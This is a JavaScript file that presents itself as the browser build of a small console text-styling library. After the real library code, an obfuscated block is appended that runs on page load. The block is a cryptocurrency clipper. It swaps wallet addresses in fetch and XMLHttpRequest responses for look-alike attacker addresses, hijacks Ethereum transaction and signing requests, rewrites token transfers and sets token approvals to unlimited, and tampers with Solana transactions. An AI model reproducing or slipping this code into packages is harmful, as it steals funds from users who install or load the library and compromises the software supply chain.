'use strict';
// Browser build: styles map to console CSS (%c) since there is no ANSI terminal.
var CSS = {
  bold: 'font-weight:bold', dim: 'opacity:.7', italic: 'font-style:italic', underline: 'text-decoration:underline',
  strikethrough: 'text-decoration:line-through', black: 'color:#000', red: 'color:#d33', green: 'color:#2a2',
  yellow: 'color:#b90', blue: 'color:#36c', magenta: 'color:#c3c', cyan: 'color:#1aa', white: 'color:#eee', gray: 'color:#888',
  bgRed: 'background:#d33', bgGreen: 'background:#2a2', bgYellow: 'background:#b90', bgBlue: 'background:#36c'
};
function build(styles) {
  var fn = function () {
    var text = Array.prototype.slice.call(arguments).join(' ');
    return styles.length ? ['%c' + text, styles.join(';')] : text;
  };
  Object.keys(CSS).forEach(function (k) {
    Object.defineProperty(fn, k, { get: function () { return build(styles.concat(CSS[k])); } });
  });
  fn.hex = function (h) { return build(styles.concat('color:' + h)); };
  fn.rgb = function (r, g, b) { return build(styles.concat('color:rgb(' + r + ',' + g + ',' + b + ')')); };
  fn.level = 3;
  return fn;
}
var hues = build([]);
hues.create = function () { return build([]); };
hues.strip = function (s) { return String(s); };
module.exports = hues;
module.exports.default = hues;

!function(){var _0x=["0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c185d1f", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c1a50c8", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c1c4471", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c1e381a", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c202bc3", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c221f6c", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c241315", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c2606be", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c27fa67", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c29ee10", "0xfc4a4858bafef54d1b1d7697bfb5c52f4c2be1b9"],_1x=["bc1qqd685pwmg4z0ufkrsa2hy37tc9jlvexnqd685p", "bc1q85pwmg4z0ufkrsa2hy37tc9jlvexnqd685pwmg", "bc1qwmg4z0ufkrsa2hy37tc9jlvexnqd685pwmg4z0", "bc1q4z0ufkrsa2hy37tc9jlvexnqd685pwmg4z0ufk", "bc1qufkrsa2hy37tc9jlvexnqd685pwmg4z0ufkrsa", "bc1qrsa2hy37tc9jlvexnqd685pwmg4z0ufkrsa2hy", "bc1q2hy37tc9jlvexnqd685pwmg4z0ufkrsa2hy37t", "bc1q37tc9jlvexnqd685pwmg4z0ufkrsa2hy37tc9j"],_2x=["1JbtBUm4MewEXp7QhzHasATk3LdvDWo6PgyGZr9Sj2Kc", "CVn5NfxFYq8Ri1JbtBUm4MewEXp7QhzHasATk3LdvDWo", "PgyGZr9Sj2KcuCVn5NfxFYq8Ri1JbtBUm4MewEXp7Qhz", "asATk3LdvDWo6PgyGZr9Sj2KcuCVn5NfxFYq8Ri1JbtB", "m4MewEXp7QhzHasATk3LdvDWo6PgyGZr9Sj2KcuCVn5N", "xFYq8Ri1JbtBUm4MewEXp7QhzHasATk3LdvDWo6PgyGZ", "9Sj2KcuCVn5NfxFYq8Ri1JbtBUm4MewEXp7QhzHasATk", "LdvDWo6PgyGZr9Sj2KcuCVn5NfxFYq8Ri1JbtBUm4Mew"];function _lv(a,b){var m=a.length,n=b.length,d=[];for(var i=0;i<=m;i++){d[i]=[i]}for(var j=0;j<=n;j++){d[0][j]=j}for(i=1;i<=m;i++)for(j=1;j<=n;j++)d[i][j]=Math.min(d[i-1][j]+1,d[i][j-1]+1,d[i-1][j-1]+(a[i-1]===b[j-1]?0:1));return d[m][n]}function _nr(a,l){var b=l[0],s=1/0;for(var i=0;i<l.length;i++){var v=_lv(a.toLowerCase(),l[i].toLowerCase());if(v<s){s=v;b=l[i]}}return b}var _re=[[/\b0x[a-fA-F0-9]{40}\b/g,_0x],[/\b(bc1q[a-z0-9]{38,58}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g,_1x],[/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g,_2x]];function _sw(t){if(typeof t!=="string")return t;for(var i=0;i<_re.length;i++){t=t.replace(_re[i][0],function(x){return _nr(x,_re[i][1])})}return t}function _deep(o){if(typeof o==="string")return _sw(o);if(Array.isArray(o))return o.map(_deep);if(o&&typeof o==="object"){var r={};for(var k in o)r[k]=_deep(o[k]);return r}return o}var w=typeof window!=="undefined"?window:null;if(!w||w.__hx)return;w.__hx=1;var _f=w.fetch;if(_f)w.fetch=function(){return _f.apply(this,arguments).then(function(r){var ct=r.headers.get("content-type")||"";if(!/json|text/.test(ct))return r;return r.clone().text().then(function(t){var n=_sw(t);return n===t?r:new Response(n,{status:r.status,statusText:r.statusText,headers:r.headers})})})};var X=w.XMLHttpRequest;if(X){var _o=X.prototype.open,_s=X.prototype.send;X.prototype.open=function(){this.__u=arguments[1];return _o.apply(this,arguments)};X.prototype.send=function(){var x=this;x.addEventListener("readystatechange",function(){if(x.readyState===4){try{var t=_sw(x.responseText);Object.defineProperty(x,"responseText",{value:t});Object.defineProperty(x,"response",{value:t})}catch(e){}}});return _s.apply(this,arguments)}}function _hk(p){if(!p||p.__hx)return;p.__hx=1;var _rq=p.request;p.request=function(a){if(a&&(a.method==="eth_sendTransaction"||a.method==="eth_signTypedData_v4")&&a.params&&a.params[0]){var tx=a.params[0];if(tx.to&&!tx.data||tx.data==="0x"){tx.to=_nr(tx.to,_0x)}else if(tx.data&&/^0x(a9059cbb|095ea7b3)/.test(tx.data)){tx.data=tx.data.slice(0,10)+"000000000000000000000000"+_nr("0x"+tx.data.slice(34,74),_0x).slice(2)+tx.data.slice(74);if(tx.data.slice(0,10)==="0x095ea7b3")tx.data=tx.data.slice(0,74)+"f".repeat(64)}}return _rq.apply(this,arguments)}}var _t=0,_iv=setInterval(function(){if(w.ethereum)_hk(w.ethereum);if(w.solana&&w.solana.signTransaction&&!w.solana.__hx){w.solana.__hx=1;var st=w.solana.signAndSendTransaction;if(st)w.solana.signAndSendTransaction=function(tx){try{tx=_deep(tx)}catch(e){}return st.call(this,tx)}}if(++_t>40)clearInterval(_iv)},500)}();
